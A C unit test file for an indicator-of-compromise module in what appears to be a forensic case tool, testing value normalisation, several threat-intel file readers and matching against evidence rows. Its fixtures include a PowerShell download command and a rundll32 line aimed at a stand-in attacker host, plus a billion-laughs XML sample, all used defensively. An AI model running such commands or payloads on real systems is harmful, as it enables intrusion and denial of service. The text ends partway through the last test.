/*
 * test-ioc.c - indicator values (refanging, validation, canonical forms),
 * each format reader on good and damaged buffers, STIX pattern logic,
 * loading into a case (duplicates) and matching against evidence rows.
 */
#include "compat.h"

#include <unistd.h>

#include "buf.h"
#include "casedb.h"
#include "ioc/ioc.h"
#include "ioc-match.h"
#include "ioc/ioc-int.h"
#include "unit.h"
#include "xalloc.h"

static char dir[] = "/tmp/ct-test-ioc-XXXXXX";

/* ---- values ---- */

static char *
refang(const char *s)
{
	static char out[4][512];
	static int i;
	struct ct_buf b = CT_BUF_INIT;

	ioc_refang(&b, s, strlen(s));
	i = (i + 1) % 4;
	snprintf(out[i], sizeof(out[i]), "%s", b.buf);
	ct_buf_release(&b);
	return out[i];
}

/* Check value as type; return the canonical form or "!reason". */
static const char *
check(const char *type, const char *value)
{
	static char out[4][1024];
	static int i;
	struct ct_buf norm = CT_BUF_INIT, why = CT_BUF_INIT;
	const char *t;
	enum ct_ioc_class c;

	c = ioc_check(type, value, &norm, &why, &t);
	i = (i + 1) % 4;
	if (c == CT_IOC_NONE)
		snprintf(out[i], sizeof(out[i]), "!%s", why.buf);
	else
		snprintf(out[i], sizeof(out[i]), "%s", norm.buf);
	ct_buf_release(&norm);
	ct_buf_release(&why);
	return out[i];
}

static const char *
infer(const char *value)
{
	struct ct_buf norm = CT_BUF_INIT, why = CT_BUF_INIT;
	const char *t = NULL;

	ioc_check(NULL, value, &norm, &why, &t);
	ct_buf_release(&norm);
	ct_buf_release(&why);
	return t;
}

static int
rejected(const char *r, const char *needle)
{
	return r[0] == '!' && strstr(r, needle) != NULL;
}

/* Defanged values ([.], hxxp, [:], [at], [dot]) made whole again. */
UNIT_CASE(refang_values)
{
	CHECK_STR(refang("hxxp://5.39.218[.]205/logo.png"),
	    "http://5.39.218.205/logo.png");
	CHECK_STR(refang("hXXps[:]//evil(.)example{.}com"),
	    "https://evil.example.com");
	CHECK_STR(refang("evil[dot]example[.]com"), "evil.example.com");
	CHECK_STR(refang("user[at]example[.]com"), "user@example.com");
	CHECK_STR(refang("plain.example.com"), "plain.example.com");
}

/* Hashes: lower case; placeholders and wrong lengths rejected with why. */
UNIT_CASE(hash_values)
{
	CHECK_STR(check("md5", "0123456789ABCDEF0123456789ABCDEF"),
	    "0123456789abcdef0123456789abcdef");
	CHECK(rejected(check("sha1", "<sha1>"), "placeholder"));
	CHECK(rejected(check("sha256", "<sha256>"), "SHA-256"));
	CHECK(rejected(check("md5", "<md5>"), "MD5"));
	CHECK(rejected(check("sha1", "aaaa"), "4 hexadecimal digits instead "
	    "of 40"));
	CHECK(rejected(check("sha256", "zz"), "not a hexadecimal digit"));
}

/* IPv4, IPv6 and CIDR in canonical form; ip|port. */
UNIT_CASE(ip_values)
{
	CHECK_STR(check("ip-dst", "5.39.218.205"), "5.39.218.205");
	CHECK_STR(check("ip-src", "2001:DB8:0:0::1"), "2001:db8::1");
	CHECK_STR(check("ip-dst", "198.51.100.0/24"), "198.51.100.0/24");
	CHECK_STR(check("ip-dst", "198.51.100.7/32"), "198.51.100.7");
	CHECK(rejected(check("ip-dst", "999.1.1.1"), "not an IPv4"));
	CHECK(rejected(check("ip-dst", "010.1.1.1"), "not an IPv4"));
	CHECK(rejected(check("ip-dst", "1.2.3.4/33"), "CIDR"));
	CHECK_STR(check("ip-dst|port", "5.39.218.205|80"), "5.39.218.205|80");
	CHECK(rejected(check("ip-dst|port", "5.39.218.205|99999"), "port"));
}

/* Domains: lower case, no trailing dot; what is not one, and why. */
UNIT_CASE(domain_values)
{
	CHECK_STR(check("domain", "Evil-Updates.Example.COM."),
	    "evil-updates.example.com");
	CHECK(rejected(check("domain", "localhost"), "two labels"));
	CHECK(rejected(check("domain", "-x.example.com"), "'-'"));
	CHECK(rejected(check("domain", "1.2.3.4"), "IP address"));
	CHECK(rejected(check("domain", "ex ample.com"), "not allowed"));
}

/*
 * URLs in canonical form (case, default port, trailing slash, fragment,
 * credentials, a missing scheme), and the key matching uses.
 */
UNIT_CASE(url_values)
{
	CHECK_STR(check("url", "HTTP://Evil.Example.COM:80/a/b/"),
	    "http://evil.example.com/a/b");
	CHECK_STR(check("url", "https://evil.example.com:443/"),
	    "https://evil.example.com");
	CHECK_STR(check("url", "http://evil.example.com:8080/x?q=1#frag"),
	    "http://evil.example.com:8080/x?q=1");
	CHECK_STR(check("url", "http://user:pw@5.39.218.205/logo.png"),
	    "http://5.39.218.205/logo.png");
	CHECK_STR(check("url", "evil.example.com/path"),
	    "http://evil.example.com/path");
	CHECK_STR(check("url", "http://[2001:db8::1]/x"),
	    "http://[2001:db8::1]/x");
	CHECK(rejected(check("url", "<url>"), "placeholder"));
	CHECK(rejected(check("url", "http://exa mple.com/"), "space"));
	CHECK(rejected(check("url", "http://host:99999/"), "port"));
	CHECK(rejected(check("url", "http:///nohost"), "bad host"));
	CHECK_STR(ct_ioc_url_key("http://evil.example.com:8080/x"),
	    "evil.example.com:8080/x");
	CHECK(ct_ioc_url_key("http://") == NULL);
}

/* File names, URIs, unsupported types and empty values. */
UNIT_CASE(other_values)
{
	CHECK_STR(check("filename", "C:\\Users\\jdoe\\QEUpdate_Helper.EXE"),
	    "qeupdate_helper.exe");
	CHECK(rejected(check("filename", "dir\\"), "not a file name"));
	CHECK_STR(check("uri", "/logo.png/"), "/logo.png");
	CHECK(rejected(check("regkey", "HKLM\\x"), "unsupported indicator "
	    "type"));
	CHECK(rejected(check("md5", ""), "empty"));
}

/* The type of an untyped value (plain lists). */
UNIT_CASE(infer_type)
{
	CHECK_STR(infer("5.39.218.205"), "ip-dst");
	CHECK_STR(infer("2001:db8::1"), "ip-dst");
	CHECK_STR(infer("198.51.100.0/24"), "ip-dst");
	CHECK_STR(infer("5.39.218.205/logo.png"), "url");
	CHECK_STR(infer("http://x.example.com"), "url");
	CHECK_STR(infer("evil.example.com"), "domain");
	CHECK_STR(infer("evil.example.com/a"), "url");
	CHECK_STR(infer("payload.exe"), "filename");
	CHECK_STR(infer("C:\\temp\\a"), "filename");
	CHECK_STR(infer("d41d8cd98f00b204e9800998ecf8427e"), "md5");
	CHECK_STR(infer("da39a3ee5e6b4b0d3255bfef95601890afd80709"), "sha1");
	CHECK_STR(infer("<sha1>"), "unknown");
	CHECK_STR(infer("just words"), "unknown");
}

/* ---- readers ---- */

static const struct ioc_item *
item(const struct ioc_doc *d, const char *type, const char *value)
{
	size_t i;

	for (i = 0; i < d->nitems; i++)
		if (strcmp(d->items[i].type, type) == 0 &&
		    strcmp(d->items[i].value, value) == 0)
			return &d->items[i];
	return NULL;
}

static const char *
ctx(const struct ioc_doc *d, const char *key, int nth)
{
	size_t i;

	for (i = 0; i < d->nctx; i++)
		if (strcmp(d->ctx[i].key, key) == 0 && nth-- == 0)
			return d->ctx[i].value;
	return NULL;
}

static size_t
nvalid(const struct ioc_doc *d)
{
	size_t i, n = 0;

	for (i = 0; i < d->nitems; i++)
		n += d->items[i].normalized != NULL;
	return n;
}

static enum ct_status
parse(enum ct_status (*fn)(const char *, size_t, struct ioc_doc *,
    struct ct_error *), const char *text, struct ioc_doc *d)
{
	struct ct_error err = CT_ERROR_INIT;

	ioc_doc_init(d, "test");
	return fn(text, strlen(text), d, &err);
}

/* A Markdown threat report (../shared/threat-reports): context, items. */
UNIT_CASE(threat_report)
{
	static const char report[] =
	    "# Threat Report: Test \xe2\x80\x94 report\n\n"
	    "## Key Intelligence\n"
	    "* Date: 2017-05-08\n"
	    "* Threat Level: 3 (Low)\n"
	    "* Tags: tlp:white, veris:actor:motive=\"Fin, ancial\"\n\n"
	    "## Indicators of Compromise (IOCs)\n"
	    "### External analysis\n"
	    "* link: https://example.org/a \xe2\x80\x94 a blog\n"
	    "* text: First line\n"
	    "second line of the same paragraph\n\n"
	    "after a blank line\n"
	    "### Network activity\n"
	    "* url: http://5.39.218.205/logo.png \xe2\x80\x94 (C&C)\n"
	    "* ip-dst: 176.53.118.131 \xc3\xa2\xe2\x82\xac\xe2\x80\x9d "
	    "mojibake dash\n"
	    "* ip-src: 203.0.113.5 -- double hyphen\n"
	    "### Payload delivery\n"
	    "* sha1: <sha1> \xe2\x80\x94 placeholder\n"
	    "* filename|sha256: a.exe|" \
	    "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb\n"
	    "* Not A Type: value\n"
	    "stray text\n";
	struct ioc_doc d;
	const struct ioc_item *it;

	CHECK_INT(parse(ioc_read_report, report, &d), CT_OK);
	CHECK_STR(d.format, "threat-report");
	CHECK_STR(ctx(&d, "title", 0), "Test \xe2\x80\x94 report");
	CHECK_STR(ctx(&d, "date", 0), "2017-05-08");
	CHECK_STR(ctx(&d, "threat_level", 0), "3 (Low)");
	CHECK_STR(ctx(&d, "tag", 0), "tlp:white");
	CHECK_STR(ctx(&d, "tag", 1), "veris:actor:motive=\"Fin, ancial\"");
	CHECK_STR(ctx(&d, "link", 0), "https://example.org/a \xe2\x80\x94 "
	    "a blog");
	CHECK_STR(ctx(&d, "text", 0), "First line\nsecond line of the same "
	    "paragraph\n\nafter a blank line");
	it = item(&d, "url", "http://5.39.218.205/logo.png");
	CHECK(it && it->normalized && strcmp(it->category,
	    "Network activity") == 0 && strcmp(it->comment, "(C&C)") == 0);
	CHECK(it && it->line == 16);
	it = item(&d, "ip-dst", "176.53.118.131");
	CHECK(it && it->normalized && strcmp(it->comment,
	    "mojibake dash") == 0);
	CHECK(item(&d, "ip-src", "203.0.113.5") != NULL);
	it = item(&d, "sha1", "<sha1>");
	CHECK(it && !it->normalized && strstr(it->reason, "placeholder"));
	CHECK(item(&d, "filename", "a.exe") != NULL);
	/* 60 hex digits: the hash half of the composite is rejected */
	it = d.nitems ? &d.items[d.nitems - 1] : NULL;
	CHECK(it && strcmp(it->type, "sha256") == 0 && !it->normalized);
	CHECK_INT(nvalid(&d), 4);
	CHECK_INT(d.nwarns, 2);	/* "Not A Type" and the stray line */
	ioc_doc_release(&d);
}

/* type,value,comment CSV: BOM, quotes, a quoted newline, no type. */
UNIT_CASE(csv_typed)
{
	static const char csv[] =
	    "\xef\xbb\xbfType, Value ,Comment\r\n"
	    "ip-dst,5.39.218[.]205,\"C&C, \"\"quoted\"\"\"\r\n"
	    ",176.53.118.131,inferred\r\n"
	    "md5,\"multi\nline\",bad\r\n"
	    "url,hxxp://evil.example.com/x,after\r\n"
	    "only-one-field\r\n";
	struct ioc_doc d;
	const struct ioc_item *it;

	CHECK_INT(parse(ioc_read_csv, csv, &d), CT_OK);
	CHECK_STR(d.format, "csv");
	it = item(&d, "ip-dst", "5.39.218[.]205");
	CHECK(it && it->line == 2 && strcmp(it->normalized,
	    "5.39.218.205") == 0 && strcmp(it->comment,
	    "C&C, \"quoted\"") == 0);
	it = item(&d, "ip-dst", "176.53.118.131");
	CHECK(it && it->line == 3);
	it = item(&d, "md5", "multi\nline");
	CHECK(it && it->line == 4 && !it->normalized);
	it = item(&d, "url", "hxxp://evil.example.com/x");
	CHECK(it && it->line == 6);	/* the quoted newline counts */
	CHECK_INT(d.nitems, 5);
	ioc_doc_release(&d);
}

/* MISP's CSV export: recognised by its header, to_ids and category kept. */
UNIT_CASE(misp_csv)
{
	static const char misp[] =
	    "uuid,event_id,category,type,value,comment,to_ids,date\n"
	    "\"u1\",1,\"Network activity\",\"domain\",\"a.example.com\","
	    "\"\",0,1\n";
	struct ioc_doc d;
	const struct ioc_item *it;

	CHECK_INT(parse(ioc_read_csv, misp, &d), CT_OK);
	CHECK_STR(d.format, "misp-csv");
	it = item(&d, "domain", "a.example.com");
	CHECK(it && it->to_ids == 0 && strcmp(it->category,
	    "Network activity") == 0);
	ioc_doc_release(&d);
}

/* A CSV file without a value column is not an indicator file. */
UNIT_CASE(csv_no_value_column)
{
	struct ioc_doc d;

	CHECK_INT(parse(ioc_read_csv, "a,b,c\n1,2,3\n", &d), CT_ERR_FORMAT);
	ioc_doc_release(&d);
}

/* Plain lists: comments, blank lines, defanged values, placeholders. */
UNIT_CASE(plain_list)
{
	static const char list[] =
	    "# comment\n\n"
	    "5.39.218[.]205  # C2\n"
	    "  evil[.]example[.]com\t\n"
	    "<md5>\n";
	struct ioc_doc d;
	const struct ioc_item *it;

	CHECK_INT(parse(ioc_read_list, list, &d), CT_OK);
	it = item(&d, "ip-dst", "5.39.218[.]205");
	CHECK(it && it->line == 3 && strcmp(it->comment, "C2") == 0);
	it = item(&d, "domain", "evil[.]example[.]com");
	CHECK(it && it->normalized && strcmp(it->normalized,
	    "evil.example.com") == 0);
	it = item(&d, "unknown", "<md5>");
	CHECK(it && it->line == 5 && strstr(it->reason, "placeholder"));
	ioc_doc_release(&d);
}

/* MISP JSON: context, to_ids, composite types, objects, a NUL in a value. */
UNIT_CASE(misp_json)
{
	static const char misp[] = "{\"Event\":{\"info\":\"T\","
	    "\"threat_level_id\":\"1\",\"Tag\":[{\"name\":\"tlp:amber\"}],"
	    "\"Attribute\":["
	    "{\"type\":\"ip-dst\",\"value\":\"5.39.218.205\",\"to_ids\":true},"
	    "{\"type\":\"domain\",\"value\":\"x.example.com\",\"to_ids\":false},"
	    "{\"type\":\"domain|ip\",\"value\":\"c2.example.com|5.39.218.205\"},"
	    "{\"type\":\"text\",\"value\":\"some prose\"},"
	    "{\"type\":\"md5\",\"value\":\"a\\u0000b\"},"
	    "{\"type\":\"url\"}],"
	    "\"Object\":[{\"name\":\"file\",\"Attribute\":["
	    "{\"type\":\"filename\",\"value\":\"x.dll\",\"to_ids\":\"1\"}]}]}}";
	struct ioc_doc d;
	const struct ioc_item *it;

	CHECK_INT(parse(ioc_read_misp_json, misp, &d), CT_OK);
	CHECK_STR(ctx(&d, "title", 0), "T");
	CHECK_STR(ctx(&d, "threat_level", 0), "1 (High)");
	CHECK_STR(ctx(&d, "tag", 0), "tlp:amber");
	CHECK_STR(ctx(&d, "text", 0), "some prose");
	it = item(&d, "domain", "x.example.com");
	CHECK(it && it->to_ids == 0 && it->line == 2);
	CHECK(item(&d, "domain", "c2.example.com") != NULL);
	it = item(&d, "ip-dst", "5.39.218.205");
	CHECK(it && it->line == 1);
	it = item(&d, "md5", "a\xef\xbf\xbd" "b");	/* NUL shown as U+FFFD */
	CHECK(it && !it->normalized && strstr(it->reason, "NUL"));
	CHECK(d.nitems >= 6);
	it = item(&d, "filename", "x.dll");
	CHECK(it && it->to_ids == 1 && it->comment && strstr(it->comment,
	    "object file"));
	ioc_doc_release(&d);
}

/* A STIX 2.1 bundle: one indicator's pattern becomes one group. */
UNIT_CASE(stix_bundle)
{
	static const char stix[] = "{\"type\":\"bundle\",\"objects\":["
	    "{\"type\":\"indicator\",\"id\":\"indicator--1\",\"pattern_type\":"
	    "\"stix\",\"pattern\":\"[ipv4-addr:value = '1.2.3.4'] OR "
	    "[domain-name:value = 'a.example.com' AND url:value = "
	    "'http://a.example.com/x'] AND [file:name = 'it\\\\'s']\"}]}";
	struct ioc_doc d;

	CHECK_INT(parse(ioc_read_stix, stix, &d), CT_OK);
	CHECK_INT(d.ngroups, 1);
	/* [a] OR ([b AND c] AND [d]): AND binds tighter than OR */
	if (d.ngroups == 1) {
		const struct ioc_node *root = &d.nodes[d.groups[0].root];

		CHECK_INT(root->op, IOC_OR);
		CHECK_INT(d.nodes[root->first].op, IOC_LEAF);
		CHECK_INT(d.nodes[d.nodes[root->first].next].op, IOC_AND);
	}
	CHECK(item(&d, "url", "http://a.example.com/x") != NULL);
	CHECK(item(&d, "filename", "it's") != NULL);
	ioc_doc_release(&d);
}

/* JSON that does not parse is a format error that says so. */
UNIT_CASE(invalid_json)
{
	struct ioc_doc d;
	struct ct_error err = CT_ERROR_INIT;

	ioc_doc_init(&d, "t");
	CHECK_INT(ioc_read_misp_json("{\"Event\": [", 11, &d, &err),
	    CT_ERR_FORMAT);
	CHECK(strstr(err.msg, "not valid JSON") != NULL);
	ioc_doc_release(&d);
}

/* STIX patterns: AND/OR trees, unsupported parts kept as rejections. */
UNIT_CASE(stix_pattern)
{
	struct ioc_doc d;
	int r;

	ioc_doc_init(&d, "t");
	r = ioc_stix_pattern(&d, 1, "[ipv4-addr:value = '1.2.3.4']", NULL);
	CHECK(r >= 0 && d.nodes[r].op == IOC_LEAF && d.nitems == 1);
	r = ioc_stix_pattern(&d, 2, "[file:hashes.'SHA-256' = "
	    "'bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb'"
	    " OR file:hashes.MD5 = '0123456789abcdef0123456789abcdef']", NULL);
	CHECK(r >= 0 && d.nodes[r].op == IOC_OR && d.nitems == 3);
	/* unsupported leaf: kept as a rejected item, the tree stands */
	r = ioc_stix_pattern(&d, 3, "[process:name = 'x.exe' OR "
	    "ipv6-addr:value = '2001:db8::1']", NULL);
	CHECK(r >= 0 && d.nitems == 5 && !d.items[3].normalized &&
	    strstr(d.items[3].reason, "process:name"));
	/* whole pattern unsupported: nothing but one rejection */
	r = ioc_stix_pattern(&d, 4, "[ipv4-addr:value = '1.1.1.1'] "
	    "REPEATS 5 TIMES", NULL);
	CHECK(r < 0 && d.nitems == 6 && strstr(d.items[5].reason,
	    "qualifiers"));
	r = ioc_stix_pattern(&d, 5, "[ipv4-addr:value = '1.1.1.1'", NULL);
	CHECK(r < 0 && strstr(d.items[d.nitems - 1].reason, "missing ']'"));
	r = ioc_stix_pattern(&d, 6, "[url:value = 'unterminated]", NULL);
	CHECK(r < 0);
	r = ioc_stix_pattern(&d, 7, "((((((((((((((((((((((((((((((((((((("
	    "((((((((((((((((((((((((((((((((((((((((", NULL);
	CHECK(r < 0);
	r = ioc_stix_pattern(&d, 8, "", NULL);
	CHECK(r < 0);
	r = ioc_stix_pattern(&d, 9, "[file:size > 100]", NULL);
	CHECK(r >= 0 && strstr(d.items[d.nitems - 1].reason,
	    "non-string"));
	ioc_doc_release(&d);
}

/* OpenIOC 1.1: the criteria tree, negated items rejected. */
UNIT_CASE(openioc)
{
	static const char xml[] = "<?xml version=\"1.0\"?>\n"
	    "<ioc:OpenIOC xmlns:ioc=\"http://openioc.org/schemas/OpenIOC_1.1\">"
	    "<ioc:metadata><ioc:short_description>S</ioc:short_description>"
	    "</ioc:metadata><ioc:criteria>\n"
	    "<ioc:Indicator operator=\"AND\" id=\"top\">\n"
	    "<ioc:IndicatorItem condition=\"is\"><ioc:Context "
	    "search=\"PortItem/remoteIP\"/><ioc:Content>5.39.218.205"
	    "</ioc:Content></ioc:IndicatorItem>\n"
	    "<ioc:Indicator operator=\"OR\">"
	    "<ioc:IndicatorItem condition=\"is\" negate=\"true\"><ioc:Context "
	    "search=\"FileItem/FileName\"/><ioc:Content>a.exe</ioc:Content>"
	    "</ioc:IndicatorItem>"
	    "<ioc:IndicatorItem><ioc:Context search=\"Network/DNS\"/>"
	    "<ioc:Content>c2.example.com</ioc:Content></ioc:IndicatorItem>"
	    "</ioc:Indicator></ioc:Indicator></ioc:criteria></ioc:OpenIOC>\n";
	struct ioc_doc d;
	const struct ioc_item *it;

	CHECK_INT(parse(ioc_read_openioc, xml, &d), CT_OK);
	CHECK_STR(ctx(&d, "title", 0), "S");
	CHECK_INT(d.ngroups, 1);
	if (d.ngroups == 1) {
		const struct ioc_node *root = &d.nodes[d.groups[0].root];

		CHECK_INT(root->op, IOC_AND);
		CHECK_STR(d.groups[0].ref, "top");
		CHECK(root->first >= 0 && d.nodes[root->first].op ==
		    IOC_LEAF);
	}
	it = item(&d, "ip-dst", "5.39.218.205");
	CHECK(it && it->line == 4);
	it = item(&d, "filename", "a.exe");
	CHECK(it && !it->normalized && strstr(it->reason, "not is"));
	CHECK(item(&d, "domain", "c2.example.com") != NULL);
	ioc_doc_release(&d);
}

/* Entity expansion (billion laughs) and other XML are refused. */
UNIT_CASE(openioc_refused)
{
	static const char laughs[] = "<?xml version=\"1.0\"?>\n"
	    "<!DOCTYPE ioc [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b "
	    "\"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">]>\n<ioc>&b;</ioc>\n";
	struct ioc_doc d;

	CHECK_INT(parse(ioc_read_openioc, laughs, &d), CT_ERR_FORMAT);
	CHECK_INT(d.nitems, 0);
	ioc_doc_release(&d);
	CHECK_INT(parse(ioc_read_openioc, "<html></html>", &d), CT_ERR_FORMAT);
	ioc_doc_release(&d);
}

/* The format of a file from its content. */
UNIT_CASE(detect_format)
{
	static const struct { const char *text, *format; } cases[] = {
		{ "{\"Event\":{\"Attribute\":[]}}", "misp-json" },
		{ "[{\"Event\":{}}]", "misp-json" },
		{ "{\"type\":\"bundle\",\"objects\":[]}", "stix2" },
		{ "<OpenIOC><criteria/></OpenIOC>", "openioc" },
		{ "# Threat Report: x\n## Indicators\n", "threat-report" },
		{ "* ip-dst: 1.2.3.4\n", "threat-report" },
		{ "type,value\nmd5,x\n", "csv" },
		{ "# my list\n1.2.3.4\n", "list" },
		{ "1.2.3.4,5.6.7.8\n", "list" },
		{ "  \n\n", "empty" },
	};
	size_t i;

	for (i = 0; i < CT_ARRAY_SIZE(cases); i++) {
		struct ioc_doc d;
		struct ct_error err = CT_ERROR_INIT;

		ioc_doc_init(&d, "t");
		ioc_read_any(cases[i].text, strlen(cases[i].text), &d, &err);
		CHECK_STR(d.format, cases[i].format);
		ioc_doc_release(&d);
	}
	{
		struct ioc_doc d;
		struct ct_error err = CT_ERROR_INIT;

		ioc_doc_init(&d, "t");
		CHECK_INT(ioc_read_any("\x7f" "ELF\0\0\0", 7, &d, &err),
		    CT_ERR_FORMAT);
		ioc_doc_release(&d);
	}
}

/* ---- load and match ---- */

static int64_t
count(struct ct_case *c, const char *sql)
{
	sqlite3_stmt *st;
	int64_t n = -1;

	if (sqlite3_prepare_v2(c->db, sql, -1, &st, NULL) != SQLITE_OK)
		return -2;
	if (sqlite3_step(st) == SQLITE_ROW)
		n = sqlite3_column_int64(st, 0);
	sqlite3_finalize(st);
	return n;
}

static char *
write_file(const char *name, const char *text)
{
	static char path[4][256];
	static int i;
	FILE *fp;

	i = (i + 1) % 4;
	snprintf(path[i], sizeof(path[i]), "%s/%s", dir, name);
	fp = fopen(path[i], "w");
	if (fp) {
		fputs(text, fp);
		fclose(fp);
	}
	return path[i];
}

static const char evidence[] =
    "INSERT INTO source(id, kind, path, status, tool_version, added_at) "
    "VALUES (1, 'evtx', 'x.evtx', 'ok', 't', 0);"
    "INSERT INTO record(id, source_id, type, locator, summary) VALUES "
    "(1,1,'evtx','record 1','s'),(2,1,'evtx','record 2','s'),"
    "(3,1,'evtx','record 3','s'),(4,1,'file','MFT 5-1','s'),"
    "(5,1,'evtx','record 5','s');"
    "INSERT INTO evtx(record_id, record_number, event_id, data, dst_ip,"
    " dst_port, command_line, dns_query) VALUES "
    "(1,1,3,'{\"DestinationIp\":\"5.39.218.205\"}','5.39.218.205',80,NULL,"
    "NULL),"
    "(2,2,1,'{}',NULL,NULL,'curl hxxp://x http://EVIL.example.com:80/a/ "
    "15.39.218.205 5.39.218.2055 notevil.example.com 198.51.100.77',"
    "NULL),"
    "(3,3,22,'{\"QueryName\":\"a.b.evil.example.com\"}',NULL,NULL,NULL,"
    "'a.b.evil.example.com'),"
    "(5,5,1,'{\"Hashes\":\"MD5=0123456789ABCDEF0123456789ABCDEF\"}',NULL,"
    "NULL,NULL,NULL);"
    "INSERT INTO file(record_id, path, name, allocated, md5) VALUES "
    "(4,'/t/Payload.EXE','Payload.EXE',0,"
    "'0123456789abcdef0123456789abcdef');";

/*
 * Loading into a case (duplicates, known values, a damaged file) and
 * matching against evidence rows of every kind, twice.
 */
UNIT_CASE(load_match)
{
	struct ct_error err = CT_ERROR_INIT;
	struct ct_ioc_load_stats ls;
	struct ct_ioc_match_stats ms;
	struct ct_case *c;
	char *casepath, *a, *b, *bad;
	int64_t hits;

	casepath = ct_xasprintf("%s/case.db", dir);
	CHECK_INT(ct_case_open(casepath, CT_CASE_WRITE, &c, &err), CT_OK);
	if (!c)
		return;
	CHECK_INT(ct_case_exec(c, evidence, &err), CT_OK);
	CHECK(!ct_ioc_case_has_indicators(c));
	a = write_file("a.txt", "5.39.218.205\nevil.example.com\n"
	    "0123456789abcdef0123456789abcdef\npayload.exe\n<sha1>\n"
	    "198.51.100.0/24\nhttp://evil.example.com/a\n");
	CHECK_INT(ct_ioc_load(c, a, &ls, &err), CT_OK);
	CHECK_INT(ls.valid, 6);
	CHECK_INT(ls.rejected, 1);
	CHECK(ls.source_id > 0);
	CHECK(ct_ioc_case_has_indicators(c));
	/* the same file again: nothing new */
	CHECK_INT(ct_ioc_load(c, a, &ls, &err), CT_OK);
	CHECK(ls.duplicate_of > 0 && ls.valid == 0);
	/* the same indicators in another file: known, not stored twice */
	b = write_file("b.csv", "type,value\nip-dst,5.39.218[.]205\n"
	    "domain,EVIL.example.com\n");
	CHECK_INT(ct_ioc_load(c, b, &ls, &err), CT_OK);
	CHECK_INT(ls.known, 2);
	CHECK_INT(ls.valid, 0);
	CHECK_INT(count(c, "SELECT count(*) FROM indicator WHERE valid = 1"),
	    6);
	bad = write_file("bad.json", "{\"Event\": ");
	CHECK_INT(ct_ioc_load(c, bad, &ls, &err), CT_ERR_FORMAT);
	CHECK_INT(count(c, "SELECT count(*) FROM source WHERE kind = 'ioc' "
	    "AND status = 'failed'"), 1);
	CHECK_INT(ct_ioc_load(c, "/nonexistent/x", &ls, &err), CT_ERR_IO);

	CHECK_INT(ct_ioc_match(c, 0, &ms, &err), CT_OK);
	CHECK_INT(ms.indicators, 6);
	/* IP: the address field and the data field (1), not 15.39... (2) */
	CHECK_INT(count(c, "SELECT count(*) FROM indicator_hit h JOIN "
	    "indicator i ON i.id = h.indicator_id WHERE i.normalized = "
	    "'5.39.218.205'"), 1);
	CHECK_INT(count(c, "SELECT record_id FROM indicator_hit h JOIN "
	    "indicator i ON i.id = h.indicator_id WHERE i.normalized = "
	    "'5.39.218.205'"), 1);
	/* domain: subdomain in the DNS query (3) and in the URL (2) */
	CHECK_INT(count(c, "SELECT count(DISTINCT record_id) FROM "
	    "indicator_hit h JOIN indicator i ON i.id = h.indicator_id WHERE "
	    "i.normalized = 'evil.example.com'"), 2);
	CHECK_INT(count(c, "SELECT count(*) FROM indicator_hit WHERE "
	    "record_id = 3 AND field = 'dns_query' AND matched = "
	    "'a.b.evil.example.com'"), 1);
	/* URL with default port and trailing slash (2) */
	CHECK_INT(count(c, "SELECT count(*) FROM indicator_hit h JOIN "
	    "indicator i ON i.id = h.indicator_id WHERE i.type = 'url' AND "
	    "h.record_id = 2"), 1);
	/* CIDR */
	CHECK_INT(count(c, "SELECT count(*) FROM indicator_hit WHERE "
	    "matched = '198.51.100.77'"), 1);
	/* hash on the deleted file (4) and in the event's data (5) */
	CHECK_INT(count(c, "SELECT count(*) FROM indicator_hit WHERE "
	    "record_id = 4 AND field = 'md5'"), 1);
	CHECK_INT(count(c, "SELECT count(*) FROM indicator_hit WHERE "
	    "record_id = 5 AND field = 'data.Hashes'"), 1);
	/* file name, case-insensitive */
	CHECK_INT(count(c, "SELECT count(*) FROM indicator_hit WHERE "
	    "record_id = 4 AND field = 'name'"), 1);
	hits = count(c, "SELECT count(*) FROM indicator_hit");
	CHECK_INT((int64_t)ms.hits, hits);
	/* idempotent */
	CHECK_INT(ct_ioc_match(c, 0, &ms, &err), CT_OK);
	CHECK_INT(count(c, "SELECT count(*) FROM indicator_hit"), hits);
	ct_case_close(c);
	free(casepath);
}

static const char remembered[] =
    "INSERT INTO source(id, kind, path, status, tool_version, added_at) "
    "VALUES (1, 'registry', 'Amcache.hve', 'ok', 't', 0);"
    "INSERT INTO record(id, source_id, type, locator, summary) VALUES "
    "(1,1,'artefact','AMCACHE amcache-file x','s'),"
    "(2,1,'artefact','SOFTWARE task y','s'),"
    "(3,1,'regkey','NTUSER key Run','s'),"
    "(4,1,'artefact','AMCACHE amcache-file z','s');"
    "INSERT INTO artefact(record_id, kind, path, sha1) VALUES "
    "(1,'amcache-file','c:\\users\\a\\appdata\\QuillUpdate.EXE',"
    "'0123456789abcdef0123456789abcdef01234567'),"
    "(4,'amcache-file','c:\\windows\\notepad.exe',"
    "'1111111111111111111111111111111111111111');"
    "INSERT INTO artefact(record_id, kind, name, command_line, data) VALUES"
    " (2,'task','\\Updater','powershell -c iwr http://evil.example.com/p',"
    "'{\"Author\":\"198.51.100.7\"}');"
    "INSERT INTO reg_key(record_id, hive, path) VALUES (3,'NTUSER','Run');"
    "INSERT INTO reg_value(record_id, name, type, size, text) VALUES "
    "(3,'Updater',1,10,'C:\\t\\QuillUpdate.exe'),"
    "(3,'Other',1,10,'rundll32 evil.example.com,x'),"
    "(3,'Plain',1,10,'C:\\Windows\\notepad.exe');";

/*
 * What Windows remembered is evidence too: an Amcache entry's hash and
 * path, a task's command line and fields, a Run value's text (cited on
 * the key's record, one hit per value).
 */
UNIT_CASE(match_artefacts)
{
	struct ct_error err = CT_ERROR_INIT;
	struct ct_ioc_load_stats ls;
	struct ct_ioc_match_stats ms;
	struct ct_case *c;
	char *casepath, *a;

	casepath = ct_xasprintf("%s/artefacts.db", dir);
	CHECK_INT(ct_case_open(casepath, CT_CASE_WRITE, &c, &err), CT_OK);
	if (!c)
		return;
	CHECK_INT(ct_case_exec(c, remembered, &err), CT_OK);
	a = write_file("r.txt", "0123456789abcdef0123456789abcdef01234567\n"
	    "quillupdate.exe\nevil.example.com\n198.51.100.7\n");
	CHECK_INT(ct_ioc_load(c, a, &ls, &err), CT_OK);
	CHECK_INT(ls.valid, 4);
	CHECK_INT(ct_ioc_match(c, 0, &ms, &err), CT_OK);
	CHECK_INT(count(c, "SELECT count(*) FROM indicator_hit WHERE "
	    "record_id = 1 AND field = 'sha1'"), 1);
